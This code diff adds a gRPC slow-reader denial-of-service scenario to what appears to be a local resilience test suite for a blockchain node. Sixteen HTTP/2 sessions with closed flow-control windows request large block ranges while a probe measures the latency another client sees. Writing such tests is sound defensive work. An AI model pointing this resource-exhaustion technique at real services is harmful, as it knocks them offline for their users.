@@ -5,6 +5,7 @@ import { connect, type Socket } from "node:net";
 import { setTimeout as sleep } from "node:timers/promises";
 import { gzipSync } from "node:zlib";
 import { type Attack, attackerHost, tally } from "../attack.js";
+import { grpcCall } from "../grpc-call.js";
 import { GREETING, resetCalls } from "../http2-frames.js";
 
 const CONNECTIONS = 4;
@@ -74,6 +75,57 @@ const grpcUnread: Attack = {
 	},
 };
 
+const SLOW_READERS = 16;
+
+/** A question for the chain's heavy blocks `from` to `to`, without the last. */
+const blocksFrame = (from: number, to: number): Buffer => Buffer.of(0, 0, 0, 0, 4, 8, from, 16, to);
+const BLOCKS = "/protocol.Wallet/GetBlockByLimitNext";
+
+/** Another client asks for a long message of its own meanwhile. */
+const grpcSlowReaders: Attack = {
+	name: "grpc-slow-readers",
+	sends: `${SLOW_READERS} gRPC calls of 30 blocks of 450 KB from 4 addresses whose windows stay closed, made again when broken off`,
+	async run({ ports }, durationMs) {
+		const end = Date.now() + durationMs;
+		let brokenOff = 0;
+		const sessions = Array.from({ length: SLOW_READERS }, (_, n) => {
+			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
+				settings: { initialWindowSize: 0 },
+				createConnection: () =>
+					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n % 4) }),
+			});
+			session.on("error", () => {});
+			const call = (): void => {
+				if (session.destroyed || Date.now() > end) return;
+				const stream = session.request({
+					":method": "POST",
+					":path": BLOCKS,
+					"content-type": "application/grpc",
+					te: "trailers",
+				});
+				stream.on("error", () => {});
+				stream.on("close", () => {
+					brokenOff++;
+					setTimeout(call, 100);
+				});
+				stream.end(blocksFrame(41, 71));
+			};
+			session.on("connect", call);
+			return session;
+		});
+		let worstMs = 0;
+		const outcomes: string[] = [];
+		while (Date.now() < end) {
+			await sleep(200);
+			const started = performance.now();
+			outcomes.push(await grpcCall(ports.grpc, BLOCKS, blocksFrame(41, 43), "127.0.9.9"));
+			worstMs = Math.max(worstMs, performance.now() - started);
+		}
+		for (const session of sessions) session.destroy();
+		return { text: `${brokenOff} broken off; others: ${tally(outcomes)}`, worstMs };
+	},
+};
+
 /** Opens streams over HTTP/2 that never end. @param first what each of them sends */
 const openStreams = (name: string, sends: string, count: number, headers: object, first: Buffer): Attack => ({
 	name,
@@ -112,7 +164,6 @@ const openStreams = (name: string, sends: string, count: number, headers: object
 	},
 });
 
-const SLOW_READERS = 16;
 const SLOW_READ_BYTES = 2_000;
 
 const range = (from: number, to: number): string => JSON.stringify({ startNum: from, endNum: to });
@@ -238,6 +289,7 @@ export const unreadAnswers: readonly Attack[] = [
 	slowReaders,
 	stalledBodies,
 	grpcUnread,
+	grpcSlowReaders,
 	grpcReset,
 	openStreams(
 		"grpc-open",
